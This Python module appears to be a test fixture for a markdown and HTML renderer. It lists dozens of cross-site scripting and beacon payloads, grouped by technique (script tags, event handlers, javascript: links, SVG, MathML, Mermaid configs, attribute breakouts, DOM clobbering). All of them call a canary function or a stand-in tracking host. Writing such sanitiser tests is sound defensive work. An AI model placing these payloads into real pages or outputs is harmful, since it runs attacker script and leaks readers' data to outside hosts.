r"""Texts that want to act, by what they try: a model may say them, a person may paste them.

A script that runs calls `ran()`, a style that holds for the whole page sets `--bait`, an element that takes a
name of the page takes `bait`. `TRAP` stands for an address, without its scheme, where it is noted who asks.
"""

from collections.abc import Mapping, Sequence

Groups = Mapping[str, Sequence[str]]


def diagram(source: str) -> str:
    return f'```mermaid\n{source}\n```'


BITING: Groups = {
    'script tags': (
        '<script>ran()</script>',
        '<script src="http:TRAP/a.js"></script>',
        'In a text: <ScRiPt\t>ran()</sCrIpT >',
        '<script type=module>import "http:TRAP/b.js"</script>',
    ),
    'event handlers': (
        '<img src=x onerror=ran()>',
        '<details open ontoggle=ran()>more</details>',
        '<p onmouseover=ran()>over</p>',
        'Here: <a tabindex=1 onfocus="ran()">here</a>',
        '<style onload=ran()></style>',
    ),
    'links': (
        '[x](javascript:ran())',
        '[x](JaVaScRiPt:void%20ran())',
        '[x](java&#115;cript:ran())',
        '[x](java&Tab;script&colon;ran())',
        '[x](<java\tscript:ran()>)',
        '[x](<\x01javascript:ran()>)',
        '[x](javascript://%0Aran())',
        '<javascript:ran()>',
        '[x][y]\n\n[y]: javascript:ran() "y"',
        'See <a href="javascript:ran()">x</a>',
    ),
    'styles': (
        '<style>:root { --bait: 1 }</style>',
        '<style>@import "http:TRAP/a.css";</style>',
        '<p style="background: url(http:TRAP/a.png)">x</p>',
        '<link rel=stylesheet href="http:TRAP/b.css">',
    ),
    'forms': (
        '<form action="http:TRAP/form"><input type=submit></form>',
        '<input autofocus onfocus=ran()>',
        '<form id=f></form><button form=f formaction="javascript:ran()">x</button>',
    ),
    'frames': (
        '<iframe src="javascript:parent.ran()"></iframe>',
        '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
        '<iframe src="data:text/html,<script>ran()</script>"></iframe>',
        '<object data="http:TRAP/object"></object>',
        '<embed src="http:TRAP/embed">',
    ),
    'drawings': (
        '<svg onload=ran()></svg>',
        '<svg><script>ran()</script></svg>',
        '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
        '<svg><use href="http:TRAP/a.svg#a"/></svg>',
        '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
        '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
    ),
    'ways out': (
        '<meta http-equiv=refresh content="0;url=http:TRAP/refresh">',
        '<base href="http:TRAP/base/">\n\n![x](a.png)',
        '<link rel=preload as=image href="http:TRAP/a.png">',
    ),
    'images and media': (
        '![x](http:TRAP/a.png)',
        '![x][z]\n\n[z]: TRAP/b.png',
        '[![x](http:TRAP/c.png)](https://example.com)',
        '![x](/files/..BAIT/d.png)',
        '<img srcset="http:TRAP/e.png 1x">',
        '<video poster="http:TRAP/f.png"></video><audio src="http:TRAP/g.mp3" autoplay></audio>',
    ),
    'formulas': (
        r'$\href{javascript:ran()}{x}$',
        r'$$\url{javascript:ran()}$$',
        r'$\includegraphics{http:TRAP/a.png}$',
        r'$\htmlStyle{background: url(http:TRAP/b.png)}{x}$',
        r'$\htmlId{bait}{x}$',
        r'\(\text{<img src=x onerror=ran()>}\)',
        '$$</math><script>ran()</script>$$',
        '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
        '<math><mtext><mglyph><style></math><img src=x onerror=ran()>',
    ),
    'diagrams': (
        diagram('graph LR\n A --> B\n click A call ran()'),
        diagram('graph LR\n A --> B\n click A href "javascript:ran()"'),
        diagram('sequenceDiagram\n participant A\n link A: x @ javascript:ran()\n A->>A: x'),
        diagram("graph LR\n A[\"<img src='http:TRAP/a.png' onerror='ran()'>\"]"),
        diagram(
            '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\n'
            "graph LR\n A[\"<img src='http:TRAP/b.png' onerror='ran()'>\"]"
        ),
        diagram(
            '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n'
            'graph LR\n A["<img src=\'http:TRAP/c.png\'>"]'
        ),
        diagram('%%{init: {"themeCSS": "* { background: url(http:TRAP/d.png) }"}}%%\ngraph LR\n A'),
        diagram('graph LR\n A@{ img: "http:TRAP/node.png", w: 60, h: 60 }'),
        diagram('sequenceDiagram\n participant A\n properties A: {"icon": "http:TRAP/icon.png"}\n A->>A: x'),
    ),
    'code': (
        '```"><script>ran()</script>\nx\n```',
        '~~~x" onmouseover="ran()\nx\n~~~',
        '```html\n<img src=x onerror=ran()>\n```',
        '```python\n</code></pre><script>ran()</script>\n```',
        'In a line: `<img src=x onerror=ran()>`',
    ),
    'attributes': (
        r'[x](https://example.com "\" onmouseover=\"ran()")',
        '![" onerror="ran()](BAIT/a.png)',
        '[x](https://example.com/"onmouseover="ran())',
        '[x]: <a" onmouseover="ran()>\n\n[x]',
    ),
    'names': (
        '<a id=bait></a>',
        'x <img name=bait>',
        '<form name=bait><input name=x></form>',
    ),
    'places': (
        '| x |\n|---|\n| <img src=x onerror=ran()> |',
        '# <img src=x onerror=ran()>',
        '- [ ] <img src=x onerror=ran()>',
        'x[^1]\n\n[^1]: <img src=x onerror=ran()>',
        '> ' * 60 + '<script>ran()</script>',
        '<div>' * 300 + '<script>ran()</script>',
    ),
    'page source': (
        '${ran()}',
        '</script><script>ran()</script>',
        '`);ran();String.raw(`',
    ),
}
"""Each of them does what it tries on a careless page."""

BLUNT: Groups = {
    'links': ('[x](vbscript:ran())', '[x](data:text/html,<script>ran()</script>)', '![x](javascript:ran())'),
    'drawings': ('<svg><a><set attributeName=href to="javascript:ran()"/><text y=20>x</text></a></svg>',),
    'formulas': ('<math href="javascript:ran()"><maction xlink:href="javascript:ran()">x</maction></math>',),
    'diagrams': (
        diagram('%%{init: {"themeCSS": "@import \'http:TRAP/g.css\'; :root { --bait: 1 }"}}%%\ngraph LR\n A'),
        diagram('%%{init: {"fontFamily": "x } :root { --bait: 1 } x {"}}%%\ngraph LR\n A'),
    ),
    'names': ('x[^bait]\n\n[^bait]: y', r'$$x \label{bait}$$'),
    'page source': ('{{ constructor.constructor("ran()")() }}', '<!--<script>'),
}
"""A browser of today, or the library that draws, does nothing with these, also on a careless page."""

ALL: Groups = {group: (*texts, *BLUNT.get(group, ())) for group, texts in BITING.items()}
